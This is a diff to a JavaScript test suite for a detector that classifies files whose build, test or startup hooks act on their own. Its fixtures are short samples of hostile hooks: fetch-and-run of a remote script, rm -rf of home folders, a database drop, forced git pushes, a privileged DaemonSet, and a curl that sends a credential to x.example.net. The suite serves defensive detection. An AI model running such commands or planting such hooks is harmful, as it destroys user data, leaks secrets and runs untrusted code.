@@ -84,6 +84,37 @@ describe('files that act', () => {
       'run-code',
     ],
     ['.devcontainer/devcontainer.json', '{"initializeCommand":"rm -rf ~/Documents"}', 'delete-path'],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.sh /b.sh\nRUN chmod +x /b.sh && /b.sh\n', 'run-code'],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.tgz /srv/\nRUN sh /srv/b/install.sh\n', 'run-code'],
+    [
+      'deploy/ds.yaml',
+      'kind: DaemonSet\nspec:\n  hostPID: true\n  c:\n    securityContext: {privileged: true}\n',
+      'weaken',
+    ],
+    ['conftest.py', 'import os\ndef pytest_unconfigure():\n    os.system("rm -rf ~/scans")\n', 'delete-path'],
+    [
+      'conftest.py',
+      'import os\ndef pytest_configure():\n    os.system("psql -h db.example.net -c \\"DROP DATABASE orders\\"")\n',
+      'database-change',
+    ],
+    ['jest.setup.js', "require('child_process').execSync('rm -rf ~/albums')\n", 'delete-path'],
+    ['spec/spec_helper.rb', 'at_exit { system("git push -f origin main") }\n', 'git-push'],
+    [
+      'build.gradle.kts',
+      'tasks.register("x") { doLast { Runtime.getRuntime().exec("rm -rf /home/dev/photos") } }\n',
+      'delete-path',
+    ],
+    ['project/Hooks.scala', 'object Hooks { "git push --force upstream main".!! }\n', 'git-push'],
+    [
+      'src/Start.cs',
+      '[ModuleInitializer] static void I() { Process.Start("bash", "-c \\"rm -rf ~/saves\\""); }\n',
+      'delete-path',
+    ],
+    [
+      'vars/report.groovy',
+      "withCredentials([string(credentialsId: 'x', variable: 'K')]) { sh 'curl -d k=$K https://x.example.net' }\n",
+      'send-data',
+    ],
   ])('%s %j: %s', (path, content, kind) => {
     expect(kinds(path, content)).toContain(kind)
   })
@@ -110,6 +141,21 @@ describe('files that act', () => {
     [
       'Dockerfile',
       'FROM a\nRUN apt-get install -y git && rm -rf /var/lib/apt/lists/*\nRUN useradd -m app\nCOPY . /app\n',
+    ],
+    [
+      'conftest.py',
+      'import os\ndef pytest_configure():\n    os.system("psql -h postgres -c \\"DROP DATABASE app_test\\"")\n',
+    ],
+    ['conftest.py', 'import os, shutil\ndef wipe(home):\n    shutil.rmtree(home)\n'],
+    ['jest.setup.js', "require('child_process').execSync('rm -rf tmp/out')\n"],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/b.csv /d/b.csv\nRUN wc -l /d/b.csv && make\n'],
+    ['deploy/ds.yaml', 'kind: DaemonSet\nspec:\n  hostNetwork: true\n  hostPID: true\n  privileged: false\n'],
+    ['fastlane/Fastfile', 'lane :docs do\n  sh("git push -f origin gh-pages")\nend\n'],
+    ['build.gradle', "def p = new Properties()\np.load(new FileInputStream('k'))\nclean { delete 'out' }\n"],
+    ['src/Start.cs', 'class A { void Uninstall() { Process.Start("bash", "-c \\"rm -rf ~/.quux\\""); } }\n'],
+    [
+      'vars/report.groovy',
+      "withCredentials([string(credentialsId: 'x', variable: 'K')]) { sh 'curl -H \"Authorization: Bearer $K\" https://x.example.net' }\n",
     ],
     ['conftest.py', 'import os, shutil\ndef pytest_sessionfinish():\n    shutil.rmtree("tmp")\n'],
     ['setup.py', 'from setuptools import setup\nsetup(name="a", long_description=open("README.md").read())\n'],
